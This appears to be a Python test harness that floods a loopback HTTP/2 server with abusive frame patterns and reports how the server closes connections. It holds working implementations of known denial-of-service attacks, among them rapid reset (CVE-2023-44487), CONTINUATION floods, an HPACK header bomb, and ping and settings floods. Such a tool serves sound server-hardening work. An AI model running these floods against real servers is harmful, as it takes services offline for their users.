"""Floods of HTTP/2 frames that no browser sends, against a server on the loopback interface.

Connections and frames are bounded by the request; see README.md for the protocol.
"""

import socket
import time

import h2.config
import h2.connection
import h2.settings
import hpack
import hyperframe.frame as frames

from lines import serve

SECONDS = 20
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Closed(Exception):
    """The server has closed the connection."""


class Client:
    """One connection: sends all it is given and takes in what the server says."""

    def __init__(self, port, host):
        self.host = host
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=SECONDS)
        self.received = bytearray()

    def send(self, data):
        try:
            self.socket.sendall(data)
        except OSError as error:
            raise Closed from error

    def drain(self, seconds=0.0):
        """Takes in what has arrived within a time; frames of it stay in `received`."""
        self.socket.settimeout(seconds or 0.0001)
        try:
            while chunk := self.socket.recv(1 << 16):
                self.received += chunk
            raise Closed
        except TimeoutError:
            return
        except OSError as error:
            raise Closed from error
        finally:
            self.socket.settimeout(SECONDS)

    def request(self):
        return [
            (":method", "GET"),
            (":scheme", "http"),
            (":authority", self.host),
            (":path", "/session"),
        ]

    def goaway(self):
        """The error code of the server's farewell, if it said one."""
        data, at, code = bytes(self.received), 0, None
        while at + 9 <= len(data):
            frame, length = frames.Frame.parse_frame_header(memoryview(data[at : at + 9]))
            if at + 9 + length > len(data):
                break
            frame.parse_body(memoryview(data[at + 9 : at + 9 + length]))
            if isinstance(frame, frames.GoAwayFrame):
                code = frame.error_code
            at += 9 + length
        return code


def end(head):
    head.flags.add("END_HEADERS")
    head.flags.add("END_STREAM")


def handshake(client, settings=None):
    client.send(PREFACE + frames.SettingsFrame(0, settings=settings or {}).serialize())


def rapid_reset(client, count):
    """Opens a stream and resets it at once, again and again (CVE-2023-44487)."""
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    connection.initiate_connection()
    for number in range(count):
        stream = connection.get_next_available_stream_id()
        connection.send_headers(stream, client.request(), end_stream=True)
        connection.reset_stream(stream)
        client.send(connection.data_to_send())
        yield number
        if number % 50 == 0:
            client.drain()


def continuation(client, count):
    """Begins a head and never ends it (CVE-2024-27316 and its like)."""
    handshake(client)
    head = frames.HeadersFrame(1, data=hpack.Encoder().encode(client.request()))
    client.send(head.serialize())
    # A literal field without indexing, named "x", in each frame.
    field = b"\x00\x01x\x7f\x81\x01" + b"y" * 256
    for number in range(count):
        client.send(frames.ContinuationFrame(1, data=field).serialize())
        yield number
        if number % 50 == 0:
            client.drain()


def empty_continuation(client, count):
    """Continues a head with nothing, which adds up to no bytes."""
    handshake(client)
    client.send(frames.HeadersFrame(1, data=hpack.Encoder().encode(client.request())).serialize())
    for number in range(count):
        client.send(frames.ContinuationFrame(1, data=b"").serialize())
        yield number
        if number % 50 == 0:
            client.drain()


def header_bomb(client, count):
    """Stores one long field in the table and names it thousands of times in each head."""
    handshake(client)
    encoder = hpack.Encoder()
    stored = encoder.encode([*client.request(), ("x", "y" * 3900)])
    named = encoder.encode(client.request()) + b"\xbe" * 8000
    for number in range(count):
        data = stored if number == 0 else named
        head = frames.HeadersFrame(2 * number + 1, data=data)
        end(head)
        client.send(head.serialize())
        yield number
        client.drain()


def many_fields(client, count):
    """Sends thousands of fields of three bytes with each request, and a body that never ends."""
    handshake(client)
    encoder = hpack.Encoder()
    request = encoder.encode([(":method", "POST"), *client.request()[1:]])
    # Literal fields without indexing, each with a name of two letters and no value.
    fields = b"".join(b"\x00\x02" + bytes([97 + n % 26, 97 + n // 26 % 26]) + b"\x00" for n in range(2250))
    for number in range(count):
        head = frames.HeadersFrame(2 * number + 1, data=request + fields)
        head.flags.add("END_HEADERS")
        client.send(head.serialize())
        yield number
        client.drain()


def unread_answers(client, count):
    """Asks and asks, and allows the server to send no byte of any body."""
    handshake(client, {frames.SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    encoder = hpack.Encoder()
    for number in range(count):
        head = frames.HeadersFrame(2 * number + 1, data=encoder.encode(client.request()))
        end(head)
        client.send(head.serialize())
        yield number
        if number % 50 == 0:
            client.drain()


def unread_bodies(client, count):
    """Sends bodies up to the windows that the server opens, and never ends them."""
    handshake(client)
    encoder = hpack.Encoder()
    block = b"z" * 16_000
    for number in range(count):
        stream = 2 * number + 1
        request = [(":method", "POST"), *client.request()[1:]]
        head = frames.HeadersFrame(stream, data=encoder.encode(request))
        head.flags.add("END_HEADERS")
        client.send(head.serialize())
        client.send(frames.DataFrame(stream, data=block).serialize())
        yield number
        if number % 50 == 0:
            client.drain()


def pings(client, count):
    """Asks for acknowledgements and does not read them."""
    handshake(client)
    ping = frames.PingFrame(0, opaque_data=b"abcdefgh").serialize()
    for number in range(count):
        client.send(ping * 100)
        yield number


def settings(client, count):
    """Changes its settings again and again."""
    handshake(client)
    change = frames.SettingsFrame(0, settings={frames.SettingsFrame.ENABLE_PUSH: 0}).serialize()
    for number in range(count):
        client.send(change * 100)
        yield number


FLOODS = {
    flood.__name__: flood
    for flood in (
        rapid_reset,
        continuation,
        empty_continuation,
        header_bomb,
        many_fields,
        unread_answers,
        unread_bodies,
        pings,
        settings,
    )
}


def answer(request):
    """Runs one kind of flood over some connections, in turns, and holds them to the end."""
    flood, deadline = FLOODS[request["flood"]], time.monotonic() + SECONDS
    clients, sent, closed, codes = [], 0, 0, []
    running = []
    for _ in range(request["connections"]):
        client = Client(request["port"], request["host"])
        clients.append(client)
        running.append((client, flood(client, request["count"])))
    while running and time.monotonic() < deadline:
        for entry in list(running):
            client, steps = entry
            try:
                next(steps)
                sent += 1
            except StopIteration:
                running.remove(entry)
            except (Closed, TimeoutError):
                closed += 1
                running.remove(entry)
    for client in clients:
        try:
            client.drain(0.01)
        except Closed:
            pass
        code = client.goaway()
        if code is not None:
            codes.append(code)
    for client in clients:
        client.socket.close()
    return {"sent": sent, "closed": closed, "goaway": sorted(set(codes))}


serve(answer)
